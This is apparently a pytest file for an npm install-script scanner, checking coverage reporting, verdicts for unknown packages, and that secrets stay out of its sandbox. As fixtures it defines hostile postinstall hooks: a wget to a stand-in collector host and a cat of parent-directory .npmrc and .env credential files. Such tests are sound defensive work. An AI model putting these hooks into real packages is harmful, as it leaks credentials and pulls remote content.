"""A scan says what it covered: nothing that failed may read as "nothing found"."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.support import requires
from tests.support.hunter import hunt, npm_project, project_with, scan_json


@pytest.fixture(scope="module", autouse=True)
def _host() -> None:
    requires.needs_runc()
    requires.needs_btf()


def test_failing_script_hides_no_other(tmp_path: Path) -> None:
    project = project_with(
        tmp_path / "p",
        broken={"preinstall": "exit 7"},
        later={"postinstall": "wget -qO- --tries=1 http://collector.example/x || true"},
    )
    report = scan_json(project, codes=(0, 1, 4))
    assert any(a["blame"]["package"] == "pkg:npm/later@1.0.0" for a in report["alerts"])
    assert report["coverage"]["packages"]["scripts_expected"] == 2
    assert report["coverage"]["packages"]["scripts_run"] == 2


def test_quiet_project_has_no_findings_and_whole_coverage(tmp_path: Path) -> None:
    report = scan_json(project_with(tmp_path / "p", calm={"postinstall": "node -e 0"}))
    assert report["verdict"] == "no_findings"
    assert report["decision"] == "pass"
    assert report["coverage"]["dropped"] == 0
    assert report["coverage"]["events"] > 100
    assert report["coverage"]["reasons"] == []
    assert [p["status"] for p in report["coverage"]["phases"]] == ["ok", "ok", "ok"]


def test_unknown_dependency_is_inconclusive_or_refused(tmp_path: Path) -> None:
    requires.needs_registry()
    name = "package-hunter-test-name-that-nobody-has-3f9c1"
    project = npm_project(tmp_path / "p", "app", dependencies={name: "1.0.0"})
    report = scan_json(project, codes=(4,))
    assert report["verdict"] == "inconclusive"
    assert report["coverage"]["reasons"]


def test_unknown_package_is_nothing_to_scan() -> None:
    requires.needs_registry()
    done = hunt("scan", "pkg:npm/package-hunter-test-name-that-nobody-has-3f9c1")
    assert done.returncode == 3, done.stderr
    assert "package-hunter-test-name-that-nobody-has-3f9c1" in done.stderr


def test_real_secrets_stay_outside(tmp_path: Path) -> None:
    secret = "npm_realTokenThatMustNotEnter0123456789"
    project = project_with(tmp_path / "p", reader={"postinstall": "cat ../../.npmrc ../../.env || true"})
    (project / ".npmrc").write_text(f"//registry.example/:_authToken={secret}\n")
    (project / ".env").write_text(f"API_KEY={secret}\n")
    done = hunt("scan", project, "--format", "json")
    assert done.returncode in (0, 1, 4), done.stderr
    assert secret not in done.stdout + done.stderr
    report = json.loads(done.stdout)
    assert any(".npmrc" in note for note in report["coverage"].get("notes", []))
